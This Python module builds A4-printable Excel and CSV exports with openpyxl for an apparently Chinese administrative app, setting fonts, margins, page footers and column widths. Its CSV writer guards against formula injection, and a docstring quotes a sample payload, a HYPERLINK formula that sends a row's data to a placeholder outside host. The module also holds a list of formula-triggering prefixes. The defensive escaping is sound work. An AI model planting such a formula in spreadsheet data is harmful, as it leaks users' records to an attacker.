"""Printable XLSX worksheets (openpyxl): what every export needs to print on A4 as it stands, at 100 %.

    write_title(ws, "通辽经济技术开发区……明细表", columns=8)       # row 1, merged and centred
    ws.append([...])  # the header (row 2), then the rows, each cell through keep_as_text if users typed it
    setup_print(ws, landscape=True, header_row=2, widths=[6, 30, ...])

`setup_print` sets A4, the orientation, the margins, "第 1 页，共 3 页" in the footer, one CJK font on every cell,
the header frozen and repeated on each printed page, and the column widths; it refuses widths wider than the
paper, so a sheet never prints shrunk to fit. Call it last: it sets the font of the cells that exist then.

A write-only sheet (streamed, for the 11,000-row exports) writes its columns and panes before its first row, so
there `setup_print` comes first, and its cells take their font from the named styles of `add_styles`:

    add_styles(book)
    measured = ColumnWidths(headers)
    for row in rows: measured.add(row)
    widths, landscape = fit_widths(measured.widths(), wrap={0, 4})
    setup_print(ws, landscape=landscape, header_row=3, widths=widths)
    ws.append([styled(ws, value, "正文") for value in row]) ...

Every CSV the app writes is made by `csv_bytes`, which does for CSV what `keep_as_text` does for XLSX.
"""
import csv
import io
import math
import unicodedata
import weakref
from collections.abc import Iterable, Sequence
from dataclasses import dataclass

from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Alignment, Border, Font, NamedStyle, Side
from openpyxl.styles.cell_style import StyleArray
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

# 宋体 (SimSun) is on every Chinese Windows and in WPS; without a CJK font named, Excel sets Chinese text in a
# fallback face that differs from machine to machine.
CJK_FONT = "宋体"
BODY_SIZE = 10
TITLE_SIZE = 14
FOOTER = "第 &P 页，共 &N 页"  # &P page, &N pages: Excel's header and footer codes

A4_MM = (210.0, 297.0)
SIDE_MARGIN_IN = 0.25  # Excel's own "窄" (narrow) margins left and right
TOP_MARGIN_IN, BOTTOM_MARGIN_IN = 0.6, 0.6  # room for the footer (at 0.3) under the last row
# A column's width is counted in digits of the workbook's default font (openpyxl's Calibri 11, or its metric twin
# Carlito where Calibri is missing), 7 pixels each at 96 pixels to the inch, the scale a sheet prints at 100 %.
# Only the cells are set in CJK_FONT, so the unit stays the same on every machine. A 10-pt 宋体 digit is 6.7 px:
# a column of n units holds n digits.
DIGIT_PX = 7
PX_MM = 25.4 / 96
# A character in BODY_SIZE 宋体, in those units: a Chinese one is 13.3 px (two digits), a digit or letter one.
NARROWEST_WRAP = 12  # a wrapping column is never narrowed below six Chinese characters


def keep_as_text(cell) -> None:
    """openpyxl stores any string that begins with "=" as a formula. What users typed (names, notes) is text
    whatever it begins with: as a string cell Excel shows it as written and never runs it. (In XLSX only "="
    makes a formula; + - @ need no escaping there, so no apostrophe shows in "+86..." or "-".)"""
    if cell.data_type == "f":
        cell.data_type = "s"



# What makes Excel, WPS and LibreOffice read a CSV cell as a formula (a tab or CR before one is skipped, too).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_bytes(rows: Iterable[Sequence]) -> bytes:
    """rows as UTF-8 CSV, with the BOM that lets Excel on Windows open the Chinese ungarbled: the one writer of the
    app's CSV files. In a CSV any cell beginning with = + - or @ is run as a formula (=HYPERLINK("http://x/?"&A2)
    in a unit's name would send the row elsewhere when clicked), so a text cell beginning so gets an apostrophe,
    which the spreadsheet hides and which keeps it text; numbers written as numbers stay as they are."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([f"'{cell}" if isinstance(cell, str) and cell.startswith(FORMULA_STARTS) else cell
                         for cell in row])
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def cjk_font(*, size: float = BODY_SIZE, bold: bool = False) -> Font:
    """The one font of a printable sheet, at a size."""
    return Font(name=CJK_FONT, size=size, bold=bold)


def write_title(ws: Worksheet, title: str, *, columns: int, row: int = 1, size: float = TITLE_SIZE) -> None:
    """A title across the first `columns` columns of `row`: merged, centred, bold."""
    cell = ws.cell(row=row, column=1, value=title)
    keep_as_text(cell)
    ws.merge_cells(start_row=row, start_column=1, end_row=row, end_column=columns)
    cell.font = cjk_font(size=size, bold=True)
    cell.alignment = Alignment(horizontal="center", vertical="center")
    ws.row_dimensions[row].height = size * 2


def printable_width_mm(*, landscape: bool) -> float:
    """The width between the side margins of an A4 page."""
    return (A4_MM[1] if landscape else A4_MM[0]) - 2 * SIDE_MARGIN_IN * 25.4


def columns_width_mm(widths: Sequence[float]) -> float:
    """The printed width of columns of these widths (in Excel's units) at 100 %."""
    return sum(int(w * DIGIT_PX) for w in widths) * PX_MM


def _set_cjk_fonts(ws: Worksheet) -> None:
    """CJK_FONT on every cell, keeping each cell's bold, italic, underline, and its size and colour where they were
    set in CJK_FONT already. Each font is turned into its CJK twin once and the twin's index written to the cells:
    `cell.font = ...` would hash a Font again for each of an export's 100,000 cells."""
    book_fonts = ws.parent._fonts  # openpyxl's list of the workbook's fonts, which a cell's fontId indexes
    cjk_ids: dict[int, int] = {}  # a font's index: its CJK twin's
    for row in ws.iter_rows():
        for cell in row:
            if cell._style is None:  # a cell never styled shares the default style, font 0
                cell._style = StyleArray()
            style = cell._style
            if style.fontId not in cjk_ids:
                font = book_fonts[style.fontId]
                own = font.name == CJK_FONT
                cjk_ids[style.fontId] = book_fonts.add(Font(
                    name=CJK_FONT, size=font.size if own else BODY_SIZE, bold=font.bold, italic=font.italic,
                    underline=font.underline, color=font.color if own else None))
            style.fontId = cjk_ids[style.fontId]


def setup_print(ws: Worksheet, *, landscape: bool, header_row: int, widths: Sequence[float]) -> None:
    """Make the sheet print on A4 at 100 %: orientation, margins, page-number footer, CJK_FONT on every cell
    (sizes and bold set in CJK_FONT are kept, any other font becomes BODY_SIZE), rows above and including
    header_row frozen, header_row repeated on every page, and the columns' widths. ValueError if the widths are
    wider than the paper: shrinking to fit would print every sheet at another size. A write-only sheet: call it
    before its first row; its cells bring their font (add_styles)."""
    printed, room = columns_width_mm(widths), printable_width_mm(landscape=landscape)
    if printed > room:
        raise ValueError(f"columns {printed:.1f} mm wide, the page has {room:.1f} mm")
    for n, width in enumerate(widths, start=1):
        ws.column_dimensions[get_column_letter(n)].width = width
    if isinstance(ws, Worksheet):  # a write-only sheet's cells have their styles
        _set_cjk_fonts(ws)
    setup = ws.page_setup
    setup.paperSize = Worksheet.PAPERSIZE_A4
    setup.orientation = "landscape" if landscape else "portrait"
    setup.scale = 100
    ws.sheet_properties.pageSetUpPr.fitToPage = False
    ws.page_margins.left = ws.page_margins.right = SIDE_MARGIN_IN
    ws.page_margins.top, ws.page_margins.bottom = TOP_MARGIN_IN, BOTTOM_MARGIN_IN
    ws.page_margins.header = ws.page_margins.footer = 0.3
    ws.print_options.horizontalCentered = True
    footer = ws.oddFooter.center
    # No font code (&"name,style"): its style name is localised ("Regular", "常规"); Excel links CJK text to a CJK
    # font in the default one.
    footer.text, footer.size = FOOTER, 9
    ws.freeze_panes = f"A{header_row + 1}"
    ws.print_title_rows = f"{header_row}:{header_row}"


# ---------------------------------------------------------------- streamed (write-only) sheets

def add_styles(book) -> None:
    """Give a workbook the named styles a streamed cell takes by name, far cheaper than a font per cell:
    标题 (the title), 说明 (the line under it), 表头, 正文, 换行 (wrapped) and 百分比 (0.0%). Made anew for each
    workbook: a named style belongs to the workbook it is added to."""
    thin = Side(style="thin")
    grid = Border(left=thin, right=thin, top=thin, bottom=thin)
    top = Alignment(vertical="top")
    for style in [
        NamedStyle("标题", font=cjk_font(size=TITLE_SIZE, bold=True),
                   alignment=Alignment(horizontal="center", vertical="center", wrap_text=True)),
        NamedStyle("说明", font=cjk_font(), alignment=Alignment(vertical="center", wrap_text=True)),
        NamedStyle("表头", font=cjk_font(bold=True), border=grid,
                   alignment=Alignment(horizontal="center", vertical="center", wrap_text=True)),
        NamedStyle("正文", font=cjk_font(), border=grid, alignment=top),
        NamedStyle("换行", font=cjk_font(), border=grid, alignment=Alignment(vertical="top", wrap_text=True)),
        NamedStyle("百分比", font=cjk_font(), border=grid, alignment=top, number_format="0.0%"),
    ]:
        book.add_named_style(style)
        # What `cell.style = name` looks up by name and copies for every cell (a third of an export's time),
        # looked up once: a streamed cell is written as it is appended and never changed, so cells share it.
        _STYLE_ARRAYS.setdefault(book, {})[style.name] = style.as_tuple()


_STYLE_ARRAYS: "weakref.WeakKeyDictionary" = weakref.WeakKeyDictionary()  # workbook -> named style -> its array


def styled(ws, value, style: str) -> WriteOnlyCell:
    """A cell for a streamed row, in one of add_styles' named styles; text never becomes a formula."""
    cell = WriteOnlyCell(ws, value=value)
    keep_as_text(cell)
    cell._style = _STYLE_ARRAYS[ws.parent][style]
    return cell


class _ExtraWidth(dict):
    """0 or 1 by character: 1 for one that BODY_SIZE 宋体 sets two units wide (East Asian wide, full-width or
    ambiguous: Chinese, full-width punctuation), 0 for a digit or letter. Looked up once per character of the
    Basic Multilingual Plane (at most 65,536 entries), computed each time for the rare others."""

    def __missing__(self, ch: str) -> int:
        extra = int(unicodedata.east_asian_width(ch) in "WFA")
        if ord(ch) < 0x10000:
            self[ch] = extra
        return extra


_EXTRA_WIDTH = _ExtraWidth()


def text_width(value) -> int:
    """The width of a value in column units, in BODY_SIZE 宋体: two for a Chinese character, one for a digit or
    letter."""
    text = "" if value is None else str(value)
    return len(text) if text.isascii() else len(text) + sum(map(_EXTRA_WIDTH.__getitem__, text))


class ColumnWidths:
    """Columns as wide as their widest value and their header, measured row by row (add): an export read page by
    page measures its rows in a pass before it writes them, as a streamed sheet's widths come before its rows.
    A header may take two lines of two characters or more (正式/党员, never 地/址); ratio columns (percent) hold
    "100.0%" at most."""

    def __init__(self, headers: Sequence[str], percent: Iterable[int] = ()):
        self.widest = [max(text_width(header) / 2, text_width(header[:2])) for header in headers]
        self.measured = [n for n in range(len(headers)) if n not in set(percent)]
        for n in set(percent):
            self.widest[n] = max(self.widest[n], text_width("100.0%"))

    def add(self, row: Sequence) -> None:
        widest = self.widest
        for n in self.measured:
            width = text_width(row[n])
            if width > widest[n]:
                widest[n] = width

    def widths(self, *, most: float = 60) -> list[float]:
        """Each column's width with a margin, at most `most` units."""
        return [min(math.ceil(widest + 1.5), most) for widest in self.widest]


def lines(text: str, width: float, *, size: float = BODY_SIZE) -> int:
    """How many lines text at `size` points takes, wrapped in a cell `width` units wide."""
    return max(1, math.ceil(text_width(text) * size / BODY_SIZE / max(width - 1, 1)))


def fit_widths(widths: Sequence[float], wrap: Iterable[int] = ()) -> tuple[list[float], bool]:
    """Widths that print on A4 at 100 %, and whether landscape: portrait when they fit as they are, else landscape,
    the widest wrapping column narrowed a unit at a time until they fit. ValueError if they cannot."""
    widths, wrap = list(widths), list(wrap)
    for landscape in (False, True):
        if columns_width_mm(widths) <= printable_width_mm(landscape=landscape):
            return widths, landscape
    while columns_width_mm(widths) > printable_width_mm(landscape=True):
        widest = max(wrap, key=lambda n: widths[n], default=None)
        if widest is None or widths[widest] <= NARROWEST_WRAP:
            raise ValueError(f"columns {columns_width_mm(widths):.1f} mm wide even wrapped: more than A4 landscape")
        widths[widest] -= 1
    return widths, True


def dated_name(*parts: str, extension: str = ".xlsx") -> str:
    """An export's file name ending in the zone's date: 组建率-2026年12月5日.xlsx (empty parts left out)."""
    from .documents import chinese_date
    from .zone_time import local_today

    return "-".join([*filter(None, parts), chinese_date(local_today())]) + extension


def as_of(filters: str) -> str:
    """The line under an export's title: the zone's date it was taken on, and what it was filtered by."""
    from .documents import chinese_date
    from .zone_time import local_today

    return f"截至{chinese_date(local_today())}　{filters}"


@dataclass
class Table:
    """One sheet of an export: its tab name, title, header and rows, which columns hold ratios (shown as per cent)
    and which hold long text (wrapped, and narrowed as far as the page needs). Rows given as a list are measured
    for the columns' widths; rows streamed (an iterator, read once as they are written) come with `measured`,
    their ColumnWidths from a pass of their own."""

    name: str
    title: str
    headers: list[str]
    rows: Iterable[Sequence]
    percent: tuple[int, ...] = ()
    wrap: tuple[int, ...] = ()
    measured: ColumnWidths | None = None

    def widths(self) -> list[float]:
        measured = self.measured
        if measured is None:
            measured = ColumnWidths(self.headers, self.percent)
            for row in self.rows:
                measured.add(row)
        return measured.widths()


HEADER_ROW = 3  # the title, the as-of line, then the header


def tables_workbook(tables: list[Table], as_of_line: str) -> bytes:
    """Tables as one workbook, a sheet each: the title and the as-of line (as_of) above the header, the columns sized
    to their text and fitted to the page, a filter on the header."""
    from openpyxl import Workbook

    book = Workbook(write_only=True)  # streams rows: 11,000 of them stay cheap
    add_styles(book)
    for table in tables:
        sheet = book.create_sheet(table.name)
        widths = table.widths()
        # A table narrower than its title is widened alike, so that the title stands on one line.
        title_width = text_width(table.title) * TITLE_SIZE / BODY_SIZE + 2
        if sum(widths) < title_width:
            widths = [math.ceil(w * title_width / sum(widths)) for w in widths]
        widths, landscape = fit_widths(widths, table.wrap)
        setup_print(sheet, landscape=landscape, header_row=HEADER_ROW, widths=widths)
        last = get_column_letter(len(table.headers))
        for row in (1, 2):
            sheet.merged_cells.add(f"A{row}:{last}{row}")
        # Merged cells do not grow to their text: the title and the as-of line get their lines' height.
        sheet.row_dimensions[1].height = 2 * TITLE_SIZE * lines(table.title, sum(widths), size=TITLE_SIZE)
        sheet.row_dimensions[2].height = 1.5 * BODY_SIZE * lines(as_of_line, sum(widths))
        sheet.append([styled(sheet, table.title, "标题")])
        sheet.append([styled(sheet, as_of_line, "说明")])
        sheet.append([styled(sheet, header, "表头") for header in table.headers])
        # Names, addresses and contacts come from imported registers: styled() keeps each as text, never a formula.
        styles = ["百分比" if n in table.percent else "换行" if n in table.wrap else "正文"
                  for n in range(len(table.headers))]
        written = 0
        for row in table.rows:
            sheet.append([styled(sheet, value, style) for value, style in zip(row, styles)])
            written += 1
        sheet.auto_filter.ref = f"A{HEADER_ROW}:{last}{HEADER_ROW + written}"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
